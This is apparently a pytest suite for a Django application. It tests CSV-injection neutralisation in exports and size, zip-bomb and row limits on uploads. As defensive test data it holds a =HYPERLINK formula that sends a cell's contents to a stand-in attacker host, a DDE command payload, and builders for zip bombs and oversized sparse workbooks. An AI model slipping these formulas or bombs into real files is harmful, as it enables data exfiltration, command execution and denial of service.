"""Files that are safe to open, uploads with limits.

Every CSV and XLSX Muster writes keeps text as text: hostile names (`=HYPERLINK(…)`, `+1-555`, `@SUM(A1)`,
`-2+3`) reach a spreadsheet with a leading apostrophe, never as a formula, and the exported roll still re-imports
unchanged. Every upload has a size limit, an XLSX a limit on what it unzips to and on its extent, a table on its
rows; each is refused with a message naming the limit, and nothing is stored.
"""

import csv
import datetime
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db.models import F, Value
from django.db.models.functions import Concat
from django.urls import URLResolver, get_resolver, reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from muster.core.exports import cell_safe, cell_text, rows_to_csv, rows_to_xlsx
from muster.core.uploads import UploadRefused, rows_limited, size_text, xlsx_checked
from muster.core.views import ObjectListView
from muster.force import contributions, imports
from muster.force.models import Contingent, Person, Tour
from muster.force.services import roll_import
from muster.funding.models import FundingFlow, Transaction
from muster.logistics.models import Vehicle
from muster.missions.models import Organization
from muster.places.models import AdminArea, Site
from muster.sources.models import Claim, Source

# What a spreadsheet takes for the start of a formula (OWASP, "CSV injection").
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")  # a negative number in a CSV is a number, not a formula
FAMILY = '=HYPERLINK("http://evil.example/"&A1,"click")'
GIVEN = ["+1-555", "@SUM(A1)", "-2+3"]
HOSTILE = [FAMILY, *GIVEN, "\t=1+1", "\r=1+1", "'=1+1", "''-1"]


# --- the one mechanism: cell_safe and its inverse ------------------------------------------------------------------

@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_gets_an_apostrophe_and_reads_back(text):
    assert cell_safe(text) == "'" + text
    assert cell_text(cell_safe(text)) == text


@pytest.mark.parametrize("value", [-5, -2.5, 0, datetime.date(2025, 1, 31), True, None, "plain", "", "'quoted",
                                   "O'Neil", "a=b"])
def test_numbers_dates_booleans_and_plain_text_are_left_alone(value):
    assert cell_safe(value) == value and cell_text(cell_safe(value)) == value


@given(st.text())
def test_any_text_is_never_written_formula_first_and_reads_back_as_it_was(text):
    written = cell_safe(text)
    assert not written.startswith(DANGEROUS)
    assert cell_text(written) == text


def test_the_writers_keep_text_as_text_and_numbers_as_numbers():
    rows = [[FAMILY, -3, datetime.date(2025, 1, 31), True, 2.5], ["+1-555", 0, None, False, -0.5]]
    workbook = load_workbook(io.BytesIO(rows_to_xlsx(["=Name", "Count", "Date", "Yes", "Share"], rows)))
    sheet = workbook.active
    assert sheet["A1"].value == "'=Name" and sheet["A2"].value == "'" + FAMILY and sheet["A2"].data_type == "s"
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-3, "n")
    assert sheet["C2"].value == datetime.datetime(2025, 1, 31) and sheet["D2"].value is True
    assert (sheet["E3"].value, sheet["E3"].data_type) == (-0.5, "n")
    text = rows_to_csv(["=Name", "Count"], rows).decode()
    assert list(csv.reader(io.StringIO(text)))[1][:2] == ["'" + FAMILY, "-3"]


# --- every export, with hostile records ---------------------------------------------------------------------------

def workbook_texts(content, where=""):
    """Every text cell of every sheet, after checking that no cell is a formula nor starts like one."""
    texts = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS), (where, sheet.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


def csv_texts(content, where=""):
    """Every cell of a CSV, after checking that none starts like a formula (a negative number may)."""
    texts = []
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        for value in row:
            assert not value.startswith(DANGEROUS) or NUMBER.fullmatch(value), (where, value)
            texts.append(value)
    return texts


def export_texts(response, fmt, where):
    assert response.status_code == 200, (where, response.status_code)
    return workbook_texts(response.content, where) if fmt == "xlsx" else csv_texts(response.content, where)


def neutralised(texts):
    return [t for t in texts if t.startswith("'")]


def hostile_roll_csv(n=3, *, arrival=datetime.date(2024, 7, 1), planned_end=datetime.date(2025, 1, 15)):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["Service number", "Family name", "Given names", "Rank", "NATO grade", "Sex", "Arrival",
                     "Planned end"])
    for i in range(n):
        writer.writerow([f"KE-X{i:03d}", FAMILY, GIVEN[i % 3], "Constable", "OR-3", "M", arrival.isoformat(),
                         planned_end.isoformat()])
    return buffer.getvalue().encode()


@pytest.fixture
def kenya(demo):
    return Contingent.objects.get(mission__code="MSS", country_id="KEN")


@pytest.fixture
def hostile(kenya):
    """The demo with formula-like text in every source, organization, contingent note, site, vehicle and person."""
    result = roll_import(user=None, contingent=kenya, roll=imports.roll_rows_read(content=hostile_roll_csv(),
                                                                                   filename="kenya.csv"))
    assert result.committed, result.errors
    Source.objects.update(title=Concat(Value("=cmd|' /C calc'!A0 "), F("title")),
                          publisher=Concat(Value("+"), F("publisher")))
    Organization.objects.update(name=Concat(Value("@SUM(1+1) "), F("name")))
    Contingent.objects.update(notes=Concat(Value("-2+3 "), F("notes")))
    Site.objects.update(name=Concat(Value("\t=1+1 "), F("name")))
    Vehicle.objects.update(registration=Concat(Value("=2+2 "), F("registration")), make_model=Value("\r=3+3"))
    people = list(Person.objects.order_by("pk"))
    for i, person in enumerate(people):
        person.family_name, person.given_names = FAMILY, GIVEN[i % 3]
    Person.objects.bulk_update(people, ["family_name", "given_names"])
    return kenya


def list_url_names():
    """Every list page of the apps: the URL names ending in `_list` in the app namespaces."""
    names = []

    def walk(patterns, namespace):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                if pattern.namespace not in ("admin", "api"):
                    walk(pattern.url_patterns, pattern.namespace or namespace)
            elif namespace and pattern.name and pattern.name.endswith("_list"):
                names.append(f"{namespace}:{pattern.name}")

    walk(get_resolver().url_patterns, None)
    return sorted(names)


def test_every_list_exports_text_as_text(hostile, signed_in):
    names = list_url_names()
    assert len(names) >= 20 and "force:person_list" in names and "sources:source_list" in names
    admin = signed_in("admin")
    carried = {}
    for name in names:
        url = reverse(name)
        view = get_resolver().resolve(url).func.view_class
        assert issubclass(view, ObjectListView), name
        for fmt in ("csv", "xlsx"):
            texts = export_texts(admin.get(url, {"export": fmt}), fmt, f"{name} {fmt}")
            carried[name, fmt] = neutralised(texts)
    for name in ("force:person_list", "sources:source_list", "missions:organization_list", "force:contingent_list",
                 "sources:claim_list", "places:site_list", "logistics:vehicle_list", "funding:fundingflow_list"):
        for fmt in ("csv", "xlsx"):
            assert carried[name, fmt], f"{name} {fmt} carried no hostile text: the test would prove nothing"
    for fmt in ("csv", "xlsx"):
        assert "'" + FAMILY in carried["force:person_list", fmt]
        assert {"'" + g for g in GIVEN} <= set(carried["force:person_list", fmt])


def test_the_strength_perstat_funding_and_fleet_reports_export_text_as_text(hostile, signed_in):
    j1, finance, j4 = signed_in("j1"), signed_in("finance"), signed_in("j4")
    on = {"on": "2024-12-31"}
    found = {}
    for code in ("MSS", "GSF"):
        for fmt in ("csv", "xlsx"):
            found["strength", code, fmt] = export_texts(j1.get(f"/dashboard/{code}/strength.{fmt}", on), fmt,
                                                        f"strength {code} {fmt}")
            found["perstat", code, fmt] = export_texts(j1.get(f"/perstat/{code}/perstat.{fmt}", on), fmt,
                                                       f"perstat {code} {fmt}")
            found["funding", code, fmt] = export_texts(finance.get(f"/funding/dashboard/{code}/funding.{fmt}"), fmt,
                                                       f"funding {code} {fmt}")
            found["fleet", code, fmt] = export_texts(j4.get(f"/logistics/fleet/{code}/fleet.{fmt}"), fmt,
                                                     f"fleet {code} {fmt}")
        for part in ("claims", "un"):
            found[part, code, "csv"] = export_texts(j1.get(f"/dashboard/{code}/strength.csv", {**on, "part": part}),
                                                    "csv", f"strength {part} {code}")
        for what in ("transactions", "contracts"):
            found[what, code, "csv"] = export_texts(finance.get(f"/funding/dashboard/{code}/{what}.hxl.csv"), "csv",
                                                    f"hxl {what} {code}")
    # The hostile text reached these exports, neutralised (the claims cite sources; the donors are organizations;
    # the Kenyan officers' tours end within 90 days of the PERSTAT date, so the XLSX lists them: "FAMILY, Given").
    assert neutralised(found["claims", "MSS", "csv"]) and neutralised(found["strength", "MSS", "xlsx"])
    assert any(t.startswith("'" + FAMILY.upper()) for t in found["perstat", "MSS", "xlsx"])
    assert any(neutralised(found["funding", code, fmt]) for code in ("MSS", "GSF") for fmt in ("csv", "xlsx"))
    assert any(neutralised(found["transactions", code, "csv"]) for code in ("MSS", "GSF"))


def test_the_report_commands_write_csv_text_as_text_as_the_pages_do(hostile):
    found = {}
    for command in ("strength", "perstat", "funding", "fleet"):
        for code in ("MSS", "GSF"):
            out = io.StringIO()
            call_command(command, mission=code, on="2025-06-30", format="csv", stdout=out)
            found[command, code] = csv_texts(out.getvalue().encode(), f"muster {command} --mission {code}")
    # The hostile text reached them, neutralised: the claims' sources in the strength, the donors in the funding.
    assert neutralised(found["strength", "MSS"]) and neutralised(found["funding", "MSS"])


def test_the_roll_exports_text_as_text_and_reads_back_unchanged(hostile, signed_in):
    kenya = hostile
    j1 = signed_in("j1")
    tours = Tour.objects.filter(contingent=kenya)
    before = (list(Person.objects.order_by("pk").values()), list(Tour.objects.order_by("pk").values()))
    for fmt in ("csv", "xlsx"):
        response = j1.get(f"/contingents/{kenya.pk}/roll.{fmt}")
        texts = export_texts(response, fmt, f"roll {fmt}")
        assert "'" + FAMILY in texts and {"'" + g for g in GIVEN} <= set(texts)
        roll = imports.roll_rows_read(content=response.content, filename=f"roll.{fmt}")
        assert {cells["family_name"] for _n, cells in roll.rows} == {FAMILY}
        again = roll_import(user=None, contingent=kenya, roll=roll)
        assert (again.errors, again.committed, again.changed, again.unchanged) == ([], True, 0, tours.count()), fmt
        assert (list(Person.objects.order_by("pk").values()), list(Tour.objects.order_by("pk").values())) == before
    for fmt in ("csv", "xlsx"):  # the empty template too
        export_texts(j1.get("/roll/import/", {"template": fmt}), fmt, f"template {fmt}")


# --- upload limits -------------------------------------------------------------------------------------------------

def padded(content, size):
    """`content` grown to exactly `size` bytes with trailing blank lines (a CSV still, a bigger one)."""
    assert len(content) <= size
    return content + b"\r\n" * ((size - len(content)) // 2) + b"\n" * ((size - len(content)) % 2)


@pytest.fixture
def var_dir(settings, tmp_path):
    """A folder of this test's own for what the roll import keeps between preview and commit."""
    settings.VAR_DIR = tmp_path
    return tmp_path


def stored_uploads(var_dir):
    """What the roll import keeps between preview and commit: in the database (core.PendingUpload), not var_dir."""
    from muster.core.models import PendingUpload

    assert not (var_dir / "roll-imports").exists()
    return sorted(PendingUpload.objects.values_list("token", flat=True))


def world():
    return (Person.objects.count(), Tour.objects.count(), Claim.objects.count(), Source.objects.count(),
            FundingFlow.objects.count(), Transaction.objects.count())


def test_the_size_is_said_as_people_read_it():
    assert size_text(20 * 1024 * 1024) == "20 MB"
    assert size_text(20 * 1024 * 1024 + 1) == "20.1 MB"  # over the limit never reads as the limit
    assert size_text(int(31.2 * 1024 * 1024)) == "31.2 MB"
    assert (size_text(4096), size_text(4097), size_text(1000)) == ("4 KB", "4.1 KB", "1000 bytes")


def test_every_upload_page_refuses_a_file_just_over_the_limit_and_stores_nothing(kenya, signed_in, settings,
                                                                                 var_dir):
    settings.MUSTER_UPLOAD_MAX_BYTES = 4096
    message = "The file is 4.1 KB; the limit is 4 KB."
    j1, finance = signed_in("j1"), signed_in("finance")
    assert "At most 4 KB." in j1.get("/roll/import/").content.decode()
    before, files = world(), stored_uploads(var_dir)

    roll = SimpleUploadedFile("kenya.csv", padded(hostile_roll_csv(), 4097))
    page = j1.post("/roll/import/", {"contingent": kenya.pk, "file": roll})
    assert page.status_code == 200 and message in page.content.decode()

    table = ",".join(contributions.IPI_COLUMNS).encode() + b"\r\n"
    page = j1.post("/contributions/import/", {"fmt": "ipi", "mission": "MSS",
                                              "file": SimpleUploadedFile("ipi.csv", padded(table, 4097))})
    assert page.status_code == 200 and message in page.content.decode()

    iati = b'<?xml version="1.0"?><iati-activities version="2.03"></iati-activities>' + b" " * 4097
    page = finance.post("/funding/import/iati/", {"mission": "MSS",
                                                  "file": SimpleUploadedFile("iati.xml", iati[:4097])})
    assert page.status_code == 200 and message in page.content.decode()
    assert world() == before and stored_uploads(var_dir) == files

    # At the limit, the same roll is read and previewed (kept for the commit; nothing stored until confirmed).
    page = j1.post("/roll/import/", {"contingent": kenya.pk,
                                     "file": SimpleUploadedFile("kenya.csv", padded(hostile_roll_csv(), 4096))})
    assert "ready" in page.content.decode() and world() == before and len(stored_uploads(var_dir)) == 1


def zip_bomb(expanded):
    """A real roll workbook whose sheet XML is padded with `expanded` bytes of blanks: a small file, a huge sheet."""
    workbook = Workbook()
    workbook.active.append(["Service number", "Family name", "Rank", "NATO grade", "Sex", "Arrival"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    bomb = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info in source.infolist():
            data = source.read(info)
            if info.filename != "xl/worksheets/sheet1.xml":
                out.writestr(info.filename, data)
                continue
            head, tail = data.split(b"<sheetData", 1)
            with out.open(info.filename, "w") as sheet:
                sheet.write(head)
                block = b" " * (1 << 20)
                for _ in range(expanded // len(block)):
                    sheet.write(block)
                sheet.write(b"<sheetData" + tail)
    return bomb.getvalue()


@pytest.fixture
def calamine_must_not_run(monkeypatch):
    """Fail the test if the XLSX reader is reached: the limits must refuse the file before anything parses it."""
    import python_calamine

    class Refuse:
        @staticmethod
        def from_filelike(_stream):
            raise AssertionError("the workbook was parsed")

    monkeypatch.setattr(python_calamine, "CalamineWorkbook", Refuse)


def test_a_zip_bomb_is_refused_before_it_is_parsed(kenya, signed_in, var_dir, calamine_must_not_run):
    bomb = zip_bomb(151 * 1024 * 1024)  # past the 150 MB the default setting allows
    assert len(bomb) < 1024 * 1024
    before, files = world(), stored_uploads(var_dir)
    page = signed_in("j1").post("/roll/import/", {"contingent": kenya.pk,
                                                  "file": SimpleUploadedFile("kenya.xlsx", bomb)})
    assert "when unzipped; the limit is 150 MB." in page.content.decode()
    assert world() == before and stored_uploads(var_dir) == files


def test_a_zip_that_understates_its_size_is_refused_while_it_is_expanded(settings, calamine_must_not_run):
    settings.MUSTER_XLSX_MAX_UNCOMPRESSED_BYTES = 2 * 1024 * 1024
    bomb = bytearray(zip_bomb(3 * 1024 * 1024))
    # Make the zip's directory claim the sheet is 1 KB.
    at = bomb.find(b"PK\x01\x02")
    while at != -1:
        name_length = int.from_bytes(bomb[at + 28:at + 30], "little")
        if bomb[at + 46:at + 46 + name_length] == b"xl/worksheets/sheet1.xml":
            bomb[at + 24:at + 28] = (1024).to_bytes(4, "little")
        at = bomb.find(b"PK\x01\x02", at + 4)
    with pytest.raises(imports.RollFileError) as error:
        imports.roll_rows_read(content=bytes(bomb), filename="kenya.xlsx")
    assert "expands to more than 2 MB when unzipped; the limit is 2 MB." in str(error.value)


def sparse_workbook(far_cell):
    workbook = Workbook()
    workbook.active.append(["Service number", "Family name", "Rank", "NATO grade", "Sex", "Arrival"])
    workbook.active[far_cell] = "x"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_a_tiny_workbook_reaching_the_last_row_or_column_is_refused_before_it_is_parsed(calamine_must_not_run):
    # Two cells, 5 KB: a reader would build a grid of 17 billion cells and take the server down.
    with pytest.raises(imports.RollFileError) as error:
        imports.roll_rows_read(content=sparse_workbook("XFD1048576"), filename="kenya.xlsx")
    assert "rows down to row 1,048,576" in str(error.value) and "the limit is 100,000 rows" in str(error.value)
    with pytest.raises(imports.RollFileError) as error:
        imports.roll_rows_read(content=sparse_workbook("CW2"), filename="kenya.xlsx")
    assert "cells in column 101; the limit is 100 columns" in str(error.value)


def test_a_roll_with_more_rows_than_the_limit_is_refused_naming_it(kenya, signed_in, settings, var_dir):
    settings.MUSTER_IMPORT_MAX_ROWS = 10
    with pytest.raises(imports.RollFileError) as error:
        imports.roll_rows_read(content=hostile_roll_csv(11), filename="kenya.csv")
    assert "The file has more than 10 rows; the limit is 10 rows." in str(error.value)
    assert len(imports.roll_rows_read(content=hostile_roll_csv(10), filename="kenya.csv").rows) == 10

    workbook = Workbook()
    for row in csv.reader(io.StringIO(hostile_roll_csv(11).decode())):
        workbook.active.append([cell_safe(value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(imports.RollFileError) as error:
        imports.roll_rows_read(content=buffer.getvalue(), filename="kenya.xlsx")
    assert "more than 10 rows below its header; the limit is 10 rows." in str(error.value)

    before, files = world(), stored_uploads(var_dir)
    page = signed_in("j1").post("/roll/import/", {"contingent": kenya.pk, "file": SimpleUploadedFile(
        "kenya.xlsx", buffer.getvalue())})
    assert "the limit is 10 rows." in page.content.decode()
    assert world() == before and stored_uploads(var_dir) == files


def test_a_contribution_table_with_more_rows_than_the_limit_is_refused_naming_it(settings):
    settings.MUSTER_IMPORT_MAX_ROWS = 10
    row = ["2010-01-31", "KEN", "MINUSTAH", *(["1"] * (len(contributions.IPI_COLUMNS) - 3))]
    table = "\r\n".join([",".join(contributions.IPI_COLUMNS), *[",".join(row)] * 11]).encode()
    with pytest.raises(contributions.ContributionFileError) as error:
        contributions.ipi_rows_read(content=table)
    assert "The file has more than 10 rows; the limit is 10 rows." in str(error.value)


def rezipped(content, part, edit):
    """The workbook `content` with its `part` rewritten by `edit` (bytes -> bytes)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            target.writestr(info.filename, edit(data) if info.filename == part else data)
    return out.getvalue()


def test_what_the_check_cannot_read_through_is_refused_not_passed_on(calamine_must_not_run):
    sheet = "xl/worksheets/sheet1.xml"
    workbook = sparse_workbook("B2")
    xlsx_checked(workbook)
    unreadable = "This is not a readable XLSX workbook."
    cases = [
        # Rows past Excel's own last row, which openpyxl cannot write but a hand-made file can.
        ("rows down to row 99,999,999", rezipped(workbook, sheet, lambda x: x.replace(b'r="B2"', b'r="B99999999"'))),
        (unreadable, b"not a zip"),
        (unreadable, rezipped(workbook, sheet, lambda x: x.replace(b"</sheetData>", b""))),  # not well-formed
        # The sheet moved to a part not named as XML, which the check would skip and a reader would read.
        (unreadable, rezipped(workbook, "xl/_rels/workbook.xml.rels", lambda x: x.replace(b"sheet1.xml",
                                                                                          b"sheet1.bin"))),
    ]
    for expected, content in cases:
        with pytest.raises(UploadRefused) as error:
            xlsx_checked(content)
        assert expected in error.value.message, expected


def test_rows_are_counted_below_the_header():
    assert list(rows_limited(iter(range(11)), limit=10)) == list(range(11))
    with pytest.raises(UploadRefused):
        list(rows_limited(iter(range(12)), limit=10))


def test_a_boundaries_file_too_large_is_refused_by_the_command(db, settings, tmp_path):
    settings.MUSTER_BOUNDARIES_MAX_BYTES = 1024
    big = tmp_path / "adm1.geojson"
    big.write_text('{"type": "FeatureCollection", "features": []}' + " " * 2000)
    before = AdminArea.objects.count()
    with pytest.raises(CommandError, match=r"adm1.geojson: The file is 2 KB; the limit is 1 KB\."):
        call_command("import-boundaries", str(big))
    settings.MUSTER_UPLOAD_MAX_BYTES = 1024
    with pytest.raises(CommandError, match=r"frontmap.csv: The file is 2 KB; the limit is 1 KB\."):
        call_command("import-boundaries", "--geopko", str(big.rename(tmp_path / "frontmap.csv")))
    assert AdminArea.objects.count() == before
